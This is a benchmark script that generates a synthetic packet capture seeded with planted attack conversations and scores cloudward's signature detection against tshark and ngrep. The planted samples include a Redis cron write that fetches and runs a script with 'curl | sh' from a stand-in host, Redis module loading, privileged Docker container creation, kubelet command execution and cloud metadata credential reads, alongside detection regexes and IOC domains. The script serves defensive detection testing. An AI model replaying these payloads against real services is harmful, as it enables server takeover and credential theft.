"""`cloudward network inspect` with every built-in signature against tshark and ngrep on one >= 1 GB
capture, and against reading the file alone (the ceiling).

The capture (built once, cached): the synthetic traffic of benchmarks/network/traffic.py (HTTP with
bulk bodies, Redis, stratum, TLS, SSH, IRC, an unknown binary protocol, DNS) with one planted attack
conversation every 1,000 frames, cycling through what the built-in rules look for (Redis takeover
commands, Docker API abuse, kubelet /run, metadata credential reads, actor scripts, scanners,
stratum, IRC bots, IOC and pool names in DNS and TLS, an actor address). Planted conversations
come from 10.9.0.0/16, so each tool's findings can be scored against them.

Runs, each once, after a warm-up read so every tool reads from the page cache:
- `cat FILE > /dev/null` and cloudward's capture reader alone (a Python loop over `read_capture`);
- `cloudward network inspect --no-builtin` (capture, flows, reassembly, protocol parsers, no rules);
- `cloudward network inspect` with the built-in signatures (and those generated from the IOC list);
- `tshark -r FILE -Y FILTER` with a display filter equivalent to the rules (protocol fields where
  Wireshark dissects them, payload regexes for Redis, stratum and IRC; TCP reassembly on, as default);
- `ngrep -I FILE REGEX`: one case-insensitive regex of the rules' distinctive strings over each
  packet's payload (no protocols, no reassembly, no ports: a floor for "grep the capture").

Usage: .venv/bin/python benchmarks/network/pcap_inspect.py [--size-mb 1024] [--cache DIR] [--no-write]
Peers: benchmarks/network/setup (tshark, ngrep).
"""

from __future__ import annotations

import sys
from pathlib import Path

# This script is named like the standard library's `inspect` and Python puts a script's folder first
# on sys.path: take it off before anything imports `inspect` (dataclasses does).
_HERE = Path(__file__).resolve().parent
sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != _HERE]
ROOT = _HERE.parents[1]
sys.path.insert(0, str(ROOT))

import argparse  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import shutil  # noqa: E402
import struct  # noqa: E402
from collections.abc import Iterator  # noqa: E402

from benchmarks._common import Measured, machine, measure, today, write_section  # noqa: E402
from benchmarks.network import traffic  # noqa: E402

PYTHON = sys.executable
CLOUDWARD = str(Path(sys.executable).parent / "cloudward")
PLANT_EVERY = 1000
CAPTURE_VERSION = 3  # 3: readable SNI in the generated ClientHellos

# --------------------------------------------------------------------------- planted attacks

_ETH = b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00"
_IP = struct.Struct("!BBHHHBBH4s4s")
_TCP = struct.Struct("!HHIIBBHHH")
_UDP = struct.Struct("!HHHH")


def _ip(src: bytes, dst: bytes, proto: int, length: int) -> bytes:
    return _IP.pack(0x45, 0, 20 + length, 0, 0x4000, 64, proto, 0, src, dst)


def _tcp_conversation(client: bytes, server: bytes, cport: int, sport: int,
                      exchanges: list[tuple[bool, bytes]]) -> Iterator[bytes]:
    seq = {True: 1000, False: 5000}

    def frame(from_client: bool, flags: int, data: bytes = b"") -> bytes:
        src, dst, sp, dp = (client, server, cport, sport) if from_client else (server, client, sport, cport)
        tcp = _TCP.pack(sp, dp, seq[from_client], seq[not from_client], 0x50, flags, 65535, 0, 0)
        return _ETH + _ip(src, dst, 6, 20 + len(data)) + tcp + data

    yield frame(True, 0x02)
    seq[True] += 1
    yield frame(False, 0x12)
    seq[False] += 1
    yield frame(True, 0x10)
    for from_client, data in exchanges:
        for i in range(0, len(data), 1448):
            piece = data[i:i + 1448]
            yield frame(from_client, 0x18, piece)
            seq[from_client] += len(piece)
        yield frame(not from_client, 0x10)
    yield frame(True, 0x11)
    seq[True] += 1
    yield frame(False, 0x11)
    seq[False] += 1
    yield frame(True, 0x10)


def _udp(client: bytes, server: bytes, cport: int, sport: int, data: bytes) -> bytes:
    return _ETH + _ip(client, server, 17, 8 + len(data)) + _UDP.pack(cport, sport, 8 + len(data), 0) + data


def _resp(*args: bytes) -> bytes:
    return b"*%d\r\n" % len(args) + b"".join(b"$%d\r\n%s\r\n" % (len(a), a) for a in args)


def _http(method: bytes, uri: bytes, host: bytes, agent: bytes = b"curl/8.5.0", body: bytes = b"") -> bytes:
    head = (method + b" " + uri + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: " + agent + b"\r\nAccept: */*\r\n")
    if body:
        head += b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
    return head + b"\r\n" + body


_OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def _dns(name: bytes) -> bytes:
    qname = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\x00"
    return struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qname + b"\x00\x01\x00\x01"


def _client_hello(name: bytes) -> bytes:
    sni = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name  # server_name_list: one host_name entry
    exts = struct.pack("!HH", 0, len(sni)) + sni
    body = b"\x03\x03" + b"\x11" * 32 + b"\x00\x00\x02\x13\x01\x01\x00" + struct.pack("!H", len(exts)) + exts
    hello = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello


_CREATE = b"/v1.41/containers/create"
PLANTS: list[tuple[str, str, int, list[tuple[bool, bytes]] | bytes]] = [
    ("redis CONFIG SET dir/dbfilename + cron value", "10.66.0.1", 6379, [
        (True, _resp(b"CONFIG", b"SET", b"dir", b"/var/spool/cron")), (False, b"+OK\r\n"),
        (True, _resp(b"CONFIG", b"SET", b"dbfilename", b"root")), (False, b"+OK\r\n"),
        (True, _resp(b"SET", b"x", b"\n\n*/2 * * * * root curl -fsSL http://10.66.0.9/i.sh | sh\n\n")),
        (False, b"+OK\r\n")]),
    ("redis SLAVEOF + MODULE LOAD", "10.66.0.2", 6379, [
        (True, _resp(b"SLAVEOF", b"10.66.0.99", b"21000")), (False, b"+OK\r\n"),
        (True, _resp(b"MODULE", b"LOAD", b"/tmp/exp.so")), (False, b"+OK\r\n")]),
    ("docker create privileged, / bind, pid host", "10.66.0.3", 2375, [
        (True, _http(b"POST", _CREATE, b"10.66.0.3:2375", b"Docker-Client/20.10.7 (linux)",
                     b'{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"],"PidMode":"host"}}')),
        (False, _OK)]),
    ("docker exec + actor image pull", "10.66.0.4", 2375, [
        (True, _http(b"POST", b"/v1.41/containers/4f2a/exec", b"10.66.0.4:2375", body=b'{"Cmd":["sh"]}')),
        (False, _OK),
        (True, _http(b"POST", b"/v1.41/images/create?fromImage=alpineos%2Fdockerapi&tag=latest", b"10.66.0.4:2375")),
        (False, _OK)]),
    ("kubelet /run", "10.66.0.5", 10250, [
        (True, _http(b"POST", b"/run/kube-system/weave-net-x/weave?cmd=id", b"10.66.0.5:10250")), (False, _OK)]),
    ("metadata credentials (curl)", "169.254.169.254", 80, [
        (True, _http(b"GET", b"/latest/meta-data/iam/security-credentials/ec2-role", b"169.254.169.254")),
        (False, _OK)]),
    ("actor script from teamtnt.red", "10.66.0.7", 80, [
        (True, _http(b"GET", b"/sh/setup/diamorphine.sh", b"teamtnt.red", b"Wget/1.21.3")), (False, _OK)]),
    ("script from a bare IP + zgrab", "10.66.0.8", 80, [
        (True, _http(b"GET", b"/x.sh", b"10.66.0.8", b"curl/7.68.0")), (False, _OK),
        (True, _http(b"GET", b"/", b"10.66.0.8", b"Mozilla/5.0 zgrab/0.x")), (False, _OK)]),
    ("stratum mining.subscribe", "10.66.0.9", 14444, [
        (True, b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'),
        (False, b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],'
                b'"error":null}\n')]),
    ("IRC bot on port 8080", "10.66.0.10", 8080, [
        (True, b"NICK x86|7f3a\r\nUSER 7f3a 0 * :7f3a\r\n"), (False, b":irc.example 001 x86|7f3a :Welcome\r\n")]),
    ("traffic with an actor address", "45.9.148.182", 80, [
        (True, _http(b"GET", b"/bin/bot/x86_64", b"45.9.148.182")), (False, _OK)]),
    ("TLS to teamtnt.red", "10.66.0.12", 443, [(True, _client_hello(b"teamtnt.red"))]),
    ("TLS to a pool", "10.66.0.13", 443, [(True, _client_hello(b"pool.supportxmr.com"))]),
    ("DNS for chimaera.cc", "10.66.0.53", 53, _dns(b"dl.chimaera.cc")),
    ("DNS for a pool", "10.66.0.53", 53, _dns(b"xmr-eu1.nanopool.org")),
    ("DNS for tmate.io", "10.66.0.53", 53, _dns(b"ssh.tmate.io")),
]


def _plants() -> Iterator[tuple[bytes, list[bytes]]]:
    """(client address, frames) of each planted conversation, cycling through PLANTS."""
    n = 0
    while True:
        _, server, port, exchange = PLANTS[n % len(PLANTS)]
        client = bytes([10, 9, (n >> 8) & 0xFF, n & 0xFF])
        cport = 30000 + n % 30000
        server_raw = bytes(int(p) for p in server.split("."))
        if isinstance(exchange, bytes):
            yield client, [_udp(client, server_raw, cport, port, exchange)]
        else:
            yield client, list(_tcp_conversation(client, server_raw, cport, port, exchange))
        n += 1


def build_capture(path: Path, size: int) -> tuple[int, int]:
    """traffic.frames() with a planted conversation every PLANT_EVERY frames; (packets, planted)."""
    header = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
    record = struct.Struct("<IIII")
    packets = planted = 0
    written = len(header)
    ts = 1_700_000_000_000_000
    plants = _plants()
    tmp = path.with_suffix(".partial")
    with open(tmp, "wb", buffering=4 * 1024 * 1024) as out:
        out.write(header)

        def put(frame: bytes) -> None:
            nonlocal ts, packets, written
            ts += 37
            out.write(record.pack(ts // 1_000_000, ts % 1_000_000, len(frame), len(frame)))
            out.write(frame)
            packets += 1
            written += 16 + len(frame)

        for frame in traffic.frames(seed=7):
            put(frame)
            if packets % PLANT_EVERY == 0:
                for plant_frame in next(plants)[1]:
                    put(plant_frame)
                planted += 1
            if written >= size:
                break
    tmp.rename(path)
    return packets, planted


# --------------------------------------------------------------------------- equivalent peers


def _domains() -> tuple[list[str], list[str]]:
    from cloudward.engines.iocs import load_iocs

    iocs = load_iocs()
    actor = [*sorted(iocs.values("domain")), "icanhazip.com", "iplogger.org", "tmate.io"]
    return actor, sorted(iocs.values("pool_domain"))


def tshark_filter() -> str:
    from cloudward.engines.iocs import load_iocs

    actor, pools = _domains()
    names = "|".join(d.replace(".", r"\\.") for d in [*actor, *pools])
    hosts = "|".join(d.replace(".", r"\\.") for d in actor)
    ports = ", ".join(sorted(load_iocs().values("pool_port"), key=int))
    addresses = ", ".join(sorted(load_iocs().values("ip")))
    arg = r"(\\r\\n\\$[0-9]+\\r\\n|\\s+)"
    parts = [
        rf'tcp.payload matches "(?i)config{arg}set{arg}(dir|dbfilename){arg}"',
        rf'tcp.payload matches "(?i)(slaveof|replicaof){arg}(?!no\\b)[^\\r\\n]"',
        rf'tcp.payload matches "(?i)module{arg}load{arg}"',
        r'tcp.payload matches "(?i)\\n\\s*(\\*|[0-9]+)(/[0-9]+)?(\\s+\\S+){4}\\s+[^\\n]*(curl|wget)\\s"',
        r'tcp.payload matches "(ssh-(rsa|ed25519|dss)|ecdsa-sha2-nistp[0-9]+)\\s+AAAA"',
        r'(http.request.uri contains "/containers/create" and http.file_data matches '
        r'"(?i)\"privileged\"\\s*:\\s*true|\"binds\"\\s*:\\s*\\[[^\\]]*\"/:|\"source\"\\s*:\\s*\"/\"|'
        r'\"pidmode\"\\s*:\\s*\"host\"")',
        r'(http.request.method == "POST" and http.request.uri matches "/containers/[^/?]+/exec")',
        r'(http.request.uri contains "/images/create" and http.request.uri contains "alpineos")',
        r'http.request.uri matches "^/(run|exec)/[^/?]+/[^/?]+/[^/?]+"',
        r'http.request.uri contains "/latest/meta-data/iam/security-credentials"',
        r'(http.host == "169.254.170.2" and http.request.uri contains "/v2/credentials/")',
        r'http.request.uri matches "(?i)/sh/setup/[^/?]+\\.sh|/(moneroocean_miner|diamorphine)\\.sh|/xmr_wallet\\.dat"',
        r'(http.request.uri matches "(?i)\\.sh(\\?|$)" and http.host matches "^[0-9.]+(:[0-9]+)?$" and '
        r'http.user_agent matches "(?i)^(curl|wget)/")',
        r'http.user_agent matches "(?i)zgrab|masscan"',
        r'tcp.payload matches "\"method\"\\s*:\\s*\"(login|mining\\.subscribe|mining\\.authorize)\""',
        f"(tcp.dstport in {{{ports}}} and tcp.len > 0)",
        r'tcp.payload matches "^NICK "',
        f'(dns.flags.response == 0 and dns.qry.name matches "(?i)(^|\\\\.)({names})$")',
        f'tls.handshake.extensions_server_name matches "(?i)(^|\\\\.)({names})$"',
        f'http.host matches "(?i)(^|\\\\.)({hosts})(:[0-9]+)?$"',
        f"ip.addr in {{{addresses}}}",
    ]
    return " or ".join(parts)


def ngrep_regex() -> str:
    actor, pools = _domains()
    # DNS and TLS carry names differently (length-prefixed labels, plain text): the distinctive label
    labels = sorted({d.split(".")[-2] for d in actor} | {max(d.split(".")[:-1], key=len) for d in pools})
    words = ["config.{1,12}set.{1,12}(dir|dbfilename)", "slaveof", "replicaof", "module.{1,12}load",
             "(curl|wget) .{0,200}\\| ?(ba)?sh", "ssh-(rsa|ed25519) AAAA", "\"privileged\" *: *true",
             "\"pidmode\" *: *\"host\"", "\"binds\" *: *\\[[^]]*\"/:", "/containers/[^/ ]+/exec", "alpineos",
             "^POST /run/", "/exec/[^/ ]+/[^/ ]+/", "security-credentials", "/v2/credentials/", "/sh/setup/",
             "moneroocean_miner", "diamorphine", "xmr_wallet", "zgrab", "masscan", "mining\\.(subscribe|authorize)",
             "\"method\" *: *\"login\"", "^NICK ", *(label.replace(".", "\\.") for label in labels)]
    return "|".join(words)


# --------------------------------------------------------------------------- running and scoring


def _flow(a: str, ap: str, b: str, bp: str) -> tuple[str, ...]:
    return tuple(sorted([f"{a}:{ap}", f"{b}:{bp}"]))


def _is_planted(flow: tuple[str, ...]) -> bool:
    return any(end.startswith("10.9.") for end in flow)


def run_cloudward(path: Path, builtin: bool) -> tuple[Measured, dict[str, object]]:
    argv = [CLOUDWARD, "network", "inspect", str(path), "-f", "json", "--no-store"]
    if not builtin:
        argv.append("--no-builtin")
    done = measure(argv)
    if done.returncode not in (0, 1):
        raise SystemExit(f"cloudward failed ({done.returncode}): {done.stderr[-2000:]}")
    report = json.loads(done.stdout)
    flows = {_flow(f["location"]["src"], str(f["location"]["sport"]), f["location"]["dst"], str(f["location"]["dport"]))
             for f in report["findings"]}
    stats = report["scan"]["stats"]
    return done, {"matches": len(report["findings"]), "flows": flows, "packets": stats["packets"], "stats": stats}


def run_tshark(path: Path) -> tuple[Measured, dict[str, object]]:
    argv = ["tshark", "-n", "-r", str(path), "-Y", tshark_filter(), "-T", "fields", "-E", "separator=,",
            "-e", "ip.src", "-e", "tcp.srcport", "-e", "udp.srcport", "-e", "ip.dst", "-e", "tcp.dstport",
            "-e", "udp.dstport"]
    done = measure(argv)
    if done.returncode != 0:
        raise SystemExit(f"tshark failed ({done.returncode}): {done.stderr[-2000:]}")
    flows = set()
    lines = [line for line in done.stdout.splitlines() if line.strip()]
    for line in lines:
        src, tsp, usp, dst, tdp, udp = (line.split(",") + [""] * 6)[:6]
        flows.add(_flow(src, tsp or usp, dst, tdp or udp))
    return done, {"matches": len(lines), "flows": flows}


def run_ngrep(path: Path) -> tuple[Measured, dict[str, object]]:
    done = measure(["ngrep", "-I", str(path), "-q", "-i", "-t", "-W", "none", ngrep_regex()])
    flows = set()
    matches = 0
    for line in done.stdout.splitlines():
        if line[:2] in ("T ", "U "):
            fields = line.split()
            arrow = fields.index("->")
            src, dst = fields[arrow - 1], fields[arrow + 1]
            flows.add(_flow(*src.rsplit(":", 1), *dst.rsplit(":", 1)))
            matches += 1
    return done, {"matches": matches, "flows": flows}


def run_reader(path: Path) -> Measured:
    code = ("import sys; from cloudward.network.capture import read_capture; "
            "n = sum(1 for _ in read_capture(sys.argv[1])); print(n)")
    return measure([PYTHON, "-c", code, str(path)])


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--size-mb", type=float, default=1024)
    parser.add_argument("--cache", type=Path, default=Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache"))
                        / "cloudward-bench" / "network")
    parser.add_argument("--rounds", type=int, default=3, help="Alternating rounds; the best time of each run counts.")
    parser.add_argument("--no-write", action="store_true", help="Print the results only (no docs/BENCHMARKS.md).")
    args = parser.parse_args()
    for tool in ("tshark", "ngrep"):
        if shutil.which(tool) is None:
            raise SystemExit(f"{tool} is missing: run benchmarks/network/setup")
    size = int(args.size_mb * 1024 * 1024)
    args.cache.mkdir(parents=True, exist_ok=True)
    path = args.cache / f"signatures-v{CAPTURE_VERSION}-{int(args.size_mb)}mb.pcap"
    facts = path.with_suffix(".json")
    if not path.exists() or not facts.exists():
        print(f"building {path} ...", flush=True)
        packets, planted = build_capture(path, size)
        facts.write_text(json.dumps({"packets": packets, "planted": planted}))
        print(f"  {packets:,} packets, {planted:,} planted attack conversations", flush=True)
    file_bytes = path.stat().st_size
    planted_total = int(json.loads(facts.read_text())["planted"])

    measure(["sh", "-c", f"cat '{path}' > /dev/null"])  # warm the page cache
    best: dict[str, tuple[Measured, dict[str, object] | None]] = {}

    def keep(name: str, measured: Measured, result: dict[str, object] | None = None) -> None:
        if name not in best or measured.seconds < best[name][0].seconds:
            best[name] = (measured, result)
        print(f"  {name}: {measured.seconds:.2f} s", flush=True)

    for round_number in range(1, args.rounds + 1):  # alternating rounds, best of each: the machine is shared
        print(f"round {round_number}", flush=True)
        keep("cat", measure(["sh", "-c", f"cat '{path}' > /dev/null"]))
        keep("reader", run_reader(path))
        keep("bare", *run_cloudward(path, builtin=False))
        keep("full", *run_cloudward(path, builtin=True))
        keep("tshark", *run_tshark(path))
        keep("ngrep", *run_ngrep(path))
    cat, reader = best["cat"][0], best["reader"][0]
    packets = int(reader.stdout.strip())
    (bare, bare_result), (full, full_result) = best["bare"], best["full"]
    (shark, shark_result), (grep, grep_result) = best["tshark"], best["ngrep"]
    assert full_result is not None

    rows = [
        ("`cat FILE > /dev/null` (the ceiling)", cat, None),
        ("cloudward's capture reader alone (Python loop over `read_capture`)", reader, None),
        ("`cloudward network inspect --no-builtin` (pipeline, no rules)", bare, bare_result),
        ("**`cloudward network inspect`** (all built-in signatures)", full, full_result),
        ("`tshark -r FILE -Y <equivalent filter>`", shark, shark_result),
        ("`ngrep -I FILE -i <equivalent regex>`", grep, grep_result),
    ]
    body = _report(path, file_bytes, packets, planted_total, rows, full_result, shark, args.rounds)
    print(body)
    if not args.no_write:
        write_section("network-inspect", body)
        print(f"wrote the network-inspect section of {ROOT / 'docs' / 'BENCHMARKS.md'}")
    return 0


def _report(path: Path, file_bytes: int, packets: int, planted: int,
            rows: list[tuple[str, Measured, dict[str, object] | None]], cloudward: dict[str, object],
            tshark: Measured, rounds: int) -> str:
    full = next(m for label, m, _ in rows if label.startswith("**"))
    lines = [
        "## Network security: pcap inspection throughput",
        "",
        f"{today()} · {machine()} · `benchmarks/network/pcap_inspect.py`, best of {rounds} alternating rounds · "
        f"capture: {file_bytes / 2**30:.2f} GiB, "
        f"{packets:,} packets (benchmarks/network/traffic.py background with {planted:,} planted attack "
        f"conversations), read from the page cache · {_versions()}",
        "",
        "| run | seconds | packets/s | Mbit/s | peak RSS | matches | flows flagged | planted attacks found | "
        "other flows flagged |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for label, measured, result in rows:
        pps = packets / measured.seconds
        mbit = file_bytes * 8 / measured.seconds / 1e6
        if result is None:
            cells = ["", "", "", ""]
        else:
            flows = result["flows"]
            assert isinstance(flows, set)
            found = sum(1 for f in flows if _is_planted(f))
            cells = [f"{result['matches']:,}", f"{len(flows):,}", f"{_planted_flows(flows):,} of {planted:,}",
                     f"{len(flows) - found:,}"]
        lines.append(f"| {label} | {measured.seconds:.1f} | {pps:,.0f} | {mbit:,.0f} | "
                     f"{measured.peak_rss_mib:,.0f} MiB | " + " | ".join(cells) + " |")
    ceiling = rows[0][1].seconds
    lines += [
        "",
        f"cloudward with every built-in signature: **{tshark.seconds / full.seconds:.1f}x tshark's throughput** "
        f"(goal: at least 3x), {ceiling / full.seconds:.1%} of `cat`'s. Matches count alerts for cloudward "
        "(one per rule per flow) and matching packets for tshark and ngrep; \"flows flagged\" puts them on one "
        "scale. A planted attack conversation counts as found when a tool flags its flow (each has its own "
        "client address in 10.9.0.0/16); the other flagged flows are the "
        "background generator's own attack-like traffic (Redis CONFIG SET dir, stratum logins to a pool "
        "port, IRC registrations, teamtnt.red in DNS) plus each tool's false positives.",
        "",
        _stats_note(cloudward),
    ]
    return "\n".join(lines)


def _planted_flows(flows: set[tuple[str, ...]]) -> int:
    return len({next(end.split(":")[0] for end in flow if end.startswith("10.9.")) for flow in flows
                if _is_planted(flow)})


def _stats_note(result: dict[str, object]) -> str:
    stats = result["stats"]
    assert isinstance(stats, dict)
    rules = stats["rules"]
    by_rule = ", ".join(f"{k.removeprefix('network.sig.')} {v}" for k, v in stats["alerts_by_rule"].items())
    share = stats["signature_seconds"] / stats["seconds"] if stats["seconds"] else 0.0
    return (f"cloudward loaded {rules['loaded']} signatures ({rules['prefilter']} prefilter, compiled in "
            f"{rules['compile_seconds']} s), inspected {stats['units']:,} units of {stats['flows']:,} flows and ran "
            f"{stats['rule_evaluations']:,} rule evaluations past the prefilter. Of its {stats['seconds']:.1f} s of "
            f"inspection, {stats['signature_seconds']:.1f} s ({share:.0%}) were spent in the signature engine "
            "(prefilter scans and rule evaluation, timed per unit inside the run); the rest is the pipeline "
            f"(capture reader, flows, reassembly, protocol parsers). Alerts by rule: {by_rule}.")


def _versions() -> str:
    import re
    import subprocess

    shark = subprocess.run(["tshark", "--version"], capture_output=True, text=True).stdout
    grep = subprocess.run(["ngrep", "-V"], capture_output=True, text=True).stdout
    shark_version = re.search(r"\d+\.\d+\.\d+", shark)
    grep_version = re.search(r"V([\w.-]+)", grep)
    return (f"tshark {shark_version.group() if shark_version else '?'}, "
            f"ngrep {grep_version.group(1) if grep_version else '?'}")


if __name__ == "__main__":
    sys.exit(main())
